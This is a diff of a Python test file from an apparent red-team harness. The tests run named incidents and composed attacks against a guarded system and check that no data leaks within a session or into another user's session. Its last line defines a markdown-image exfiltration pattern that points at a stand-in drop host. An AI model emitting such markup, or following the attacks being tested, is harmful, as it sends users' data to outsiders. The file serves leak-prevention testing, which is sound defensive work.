@@ -5,37 +5,52 @@ Not collected under this name, since it needs the guard.
 
 import pytest
 
+from douane.jobs.redteam.run.outcome import OTHER_SESSION, Hit, Outcome
 from douane.jobs.redteam.sinks.judge import held
 from douane.jobs.redteam.sinks.resolver import addresses
 from douane.jobs.redteam.sinks.widget import bodies
+from douane.jobs.redteam.suite.attack import Attack
 from douane.jobs.redteam.suite.build import suite
 from tests.attack.conftest import Stage
 from tests.attack.malicious import NAMES, attempt, incident
-from tests.attack.parties import ACCOUNT, ANNA, APP, TIER, protect, reader
+from tests.attack.parties import ACCOUNT, ANNA, APP, protect, reader
+from tests.simulators.border import TIER
 from tests.simulators.endpoint import Script, always
 
 
-@pytest.mark.parametrize("name", NAMES)
-def test_nothing_of_an_incident_gets_out_and_its_twin_is_answered(stage: Stage, name: str) -> None:
+def out(outcome: Outcome, *, elsewhere: bool) -> list[Hit]:
+    """Return what got out in its own session, or in somebody else's."""
+    return [hit for hit in outcome.hits if (hit.sink == OTHER_SESSION) is elsewhere]
+
+
+def tried(stage: Stage, attack: Attack) -> Outcome:
     border, run = stage
     border.renew()
-
-    _, outcome, _ = run(attempt(border, incident(name)))
-
-    assert outcome.hits == ()
+    _, outcome, _ = run(attempt(border, attack))
     assert not outcome.failed
+    return outcome  # type: ignore[no-any-return]
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_nothing_of_an_incident_gets_out_of_its_session(stage: Stage, name: str) -> None:
+    outcome = tried(stage, incident(name))
+
+    assert out(outcome, elsewhere=False) == []
     assert outcome.harm == ""
 
 
-def test_nothing_of_composed_attacks_gets_out(stage: Stage) -> None:
-    border, run = stage
-    out = []
-    for attack in suite(2, 120, ["composed"]):
-        border.renew()
-        _, outcome, _ = run(attempt(border, attack))
-        out += [(attack.name, hit) for hit in outcome.hits]
+@pytest.mark.parametrize("name", NAMES)
+def test_nobody_else_is_told_of_an_incident(stage: Stage, name: str) -> None:
+    assert out(tried(stage, incident(name)), elsewhere=True) == []
 
-    assert out == []
+
+@pytest.mark.parametrize("elsewhere", [False, True])
+def test_nothing_of_composed_attacks_gets_out(stage: Stage, elsewhere: bool) -> None:
+    attacks = suite(2, 100, ["composed"])
+
+    leaks = {each.name: out(tried(stage, each), elsewhere=elsewhere) for each in attacks}
+
+    assert {name: hits for name, hits in leaks.items() if hits} == {}
 
 
 MARKUP = ("![x](https://a1.drop.example.net/x?d=", ")")
